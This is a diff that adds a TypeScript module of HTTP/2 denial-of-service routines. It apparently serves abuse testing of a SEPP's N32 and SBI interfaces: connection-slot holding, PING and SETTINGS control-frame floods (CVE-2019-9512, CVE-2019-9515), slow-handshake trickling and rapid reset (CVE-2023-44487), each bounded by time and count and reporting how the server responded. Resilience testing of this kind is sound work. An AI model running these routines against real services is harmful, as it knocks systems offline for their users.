@@ -1,0 +1,208 @@
+// scripts/abuse/attacks-common.ts — attack patterns shared by the N32 and SBI attacks: holding connection slots
+// (replacing each one the server closes), flooding HTTP/2 control frames without reading the answers, trickling the
+// first bytes of a connection, and the rapid reset. Every loop is bounded by time and by count.
+import {
+  clientPreface,
+  deadline,
+  FRAME,
+  headersFrame,
+  median,
+  ping,
+  rstFrame,
+  SETTINGS_ACK,
+  settingsFrame,
+  sleep,
+  writeBounded,
+  type Conn,
+  type Summary,
+} from "./raw.ts";
+
+export interface HoldOptions {
+  /** connections kept open at once */
+  target: number;
+  /** new connections per second at most */
+  perSecond: number;
+  maxAttempts: number;
+  durationMs: number;
+  /** after the connection is up: what to send first (HTTP/2 preface) and every `pingEveryMs` (PING) */
+  h2: boolean;
+  pingEveryMs?: number;
+}
+
+/** Hold up to `target` connections; each one the server closes is replaced. */
+export async function holdSlots(open: () => Conn, o: HoldOptions): Promise<Summary> {
+  const done = deadline(o.durationMs);
+  const live = new Set<Conn>();
+  const all: Conn[] = [];
+  let upCount = 0;
+  let pings = 0;
+  const timer = o.pingEveryMs
+    ? setInterval(() => {
+        for (const c of live) if (!c.isClosed()) c.socket.write(ping(pings++));
+      }, o.pingEveryMs)
+    : null;
+  while (!done() && all.length < o.maxAttempts) {
+    if (live.size >= o.target) {
+      await sleep(20);
+      continue;
+    }
+    const c = open();
+    all.push(c);
+    live.add(c);
+    void c.closed.then(() => live.delete(c));
+    void c.ready.then((up) => {
+      if (!up) return;
+      upCount++;
+      if (o.h2) c.socket.write(Buffer.concat([clientPreface(), SETTINGS_ACK]));
+    });
+    await sleep(1000 / o.perSecond);
+  }
+  while (!done()) await sleep(50);
+  if (timer) clearInterval(timer);
+  const heldAtEnd = [...live].filter((c) => !c.isClosed()).length;
+  // admitted = the server spoke HTTP/2 on it (its SETTINGS frame)
+  const admitted = all.filter((c) => c.frames.count(FRAME.SETTINGS) > 0).length;
+  const closedByServer = all.filter((c) => c.closedByServer());
+  for (const c of all) c.destroy();
+  return {
+    attempts: all.length,
+    up: upCount,
+    admitted,
+    closedByServer: closedByServer.length,
+    medianLifeMsClosedByServer: Math.round(median(closedByServer.map((c) => c.lifetime()))),
+    heldAtEnd,
+  };
+}
+
+export interface FloodOptions {
+  /** connections flooding at once */
+  conns: number;
+  /** connections in all (each one the server ends is replaced, at most one per worker every `gapMs`) */
+  maxConns: number;
+  gapMs: number;
+  /** frames per write */
+  batch: number;
+  /** writes of `batch` frames per connection at most (the runtime ends a flooding connection well before) */
+  maxWritesPerConn: number;
+  durationMs: number;
+}
+
+/** Control-frame flood (CVE-2019-9512 PING, CVE-2019-9515 SETTINGS): `batch` frames per write, a millisecond
+ *  apart, reading the answers (a batch under ~1000 unanswered frames stays under the runtime's own burst bound, so
+ *  only the SEPP's rate bound ends it); a connection the server ends is replaced. */
+export async function controlFlood(open: () => Conn, kind: "settings" | "ping", o: FloodOptions): Promise<Summary> {
+  const done = deadline(o.durationMs);
+  const all: Conn[] = [];
+  let bytes = 0;
+  let frames = 0;
+  const one = kind === "settings" ? settingsFrame() : ping(7);
+  const chunk = Buffer.concat(Array.from({ length: o.batch }, () => one));
+  const worker = async () => {
+    while (!done() && all.length < o.maxConns) {
+      await sleep(o.gapMs);
+      const c = open();
+      all.push(c);
+      if (!(await Promise.race([c.ready, sleep(5000).then(() => false)]))) {
+        c.destroy();
+        continue;
+      }
+      c.socket.write(Buffer.concat([clientPreface(), SETTINGS_ACK]));
+      for (let i = 0; i < o.maxWritesPerConn && !done() && (await writeBounded(c, chunk, 500)); i++) {
+        bytes += chunk.length;
+        frames += o.batch;
+        await sleep(1);
+      }
+      await Promise.race([c.closed, sleep(300)]);
+      c.destroy();
+    }
+  };
+  await Promise.all(Array.from({ length: o.conns }, worker));
+  return {
+    connections: all.length,
+    framesWritten: frames,
+    mbWritten: Math.round(bytes / 1e5) / 10,
+    closedByServer: all.filter((c) => c.closedByServer()).length,
+    goawayEnhanceYourCalm: all.filter((c) => c.frames.goaway === 0xb).length,
+    medianLifeMsClosedByServer: Math.round(median(all.filter((c) => c.closedByServer()).map((c) => c.lifetime()))),
+    answersRead: all.reduce((n, c) => n + c.frames.count(kind === "settings" ? FRAME.SETTINGS : FRAME.PING), 0),
+  };
+}
+
+/** Open `target` connections that send `bytes` one octet every `everyMs` (slow TLS ClientHello, slow preface). */
+export async function trickle(
+  open: () => Conn,
+  bytes: Buffer,
+  o: { target: number; perSecond: number; everyMs: number; maxAttempts: number; durationMs: number },
+): Promise<Summary> {
+  const done = deadline(o.durationMs);
+  const live = new Set<Conn>();
+  const all: Conn[] = [];
+  const sent = new Map<Conn, number>();
+  const timer = setInterval(() => {
+    for (const c of live) {
+      const i = sent.get(c) ?? 0;
+      if (c.isClosed() || i >= bytes.length - 1) continue; // never the last octet: the handshake never completes
+      c.socket.write(bytes.subarray(i, i + 1));
+      sent.set(c, i + 1);
+    }
+  }, o.everyMs);
+  while (!done() && all.length < o.maxAttempts) {
+    if (live.size >= o.target) {
+      await sleep(20);
+      continue;
+    }
+    const c = open();
+    all.push(c);
+    live.add(c);
+    void c.closed.then(() => live.delete(c));
+    await sleep(1000 / o.perSecond);
+  }
+  while (!done()) await sleep(50);
+  clearInterval(timer);
+  const closed = all.filter((c) => c.closedByServer());
+  const heldAtEnd = [...live].filter((c) => !c.isClosed()).length;
+  for (const c of all) c.destroy();
+  return {
+    attempts: all.length,
+    closedByServer: closed.length,
+    closedWithin100ms: closed.filter((c) => c.lifetime() < 100).length,
+    medianLifeMsClosedByServer: Math.round(median(closed.map((c) => c.lifetime()))),
+    heldAtEnd,
+  };
+}
+
+/** Rapid reset (CVE-2023-44487): HEADERS + RST_STREAM pairs, `batch` per write; a connection the server ends is
+ *  replaced. `path(i)` marks each request so the producer can count what got through. */
+export async function rapidReset(
+  open: () => Conn,
+  headers: (i: number) => Array<[string, string]>,
+  o: { batch: number; maxStreams: number; durationMs: number; maxConns: number; gapMs: number },
+): Promise<Summary> {
+  const done = deadline(o.durationMs);
+  const all: Conn[] = [];
+  let streams = 0;
+  while (!done() && streams < o.maxStreams && all.length < o.maxConns) {
+    const c = open();
+    all.push(c);
+    if (!(await Promise.race([c.ready, sleep(5000).then(() => false)]))) {
+      c.destroy();
+      await sleep(100);
+      continue;
+    }
+    c.socket.write(Buffer.concat([clientPreface(), SETTINGS_ACK]));
+    let id = 1;
+    while (!done() && streams < o.maxStreams && c.frames.goaway === null && id < 2 ** 30) {
+      const parts: Buffer[] = [];
+      for (let i = 0; i < o.batch; i++, id += 2) parts.push(headersFrame(id, headers(streams++)), rstFrame(id));
+      if (!(await writeBounded(c, Buffer.concat(parts), 500))) break;
+      await sleep(o.gapMs); // paced (and lets the GOAWAY in)
+    }
+    c.destroy();
+  }
+  return {
+    connections: all.length,
+    streamsSent: streams,
+    goawayEnhanceYourCalm: all.filter((c) => c.frames.goaway === 0xb).length,
+    closedByServer: all.filter((c) => c.closedByServer()).length,
+  };
+}
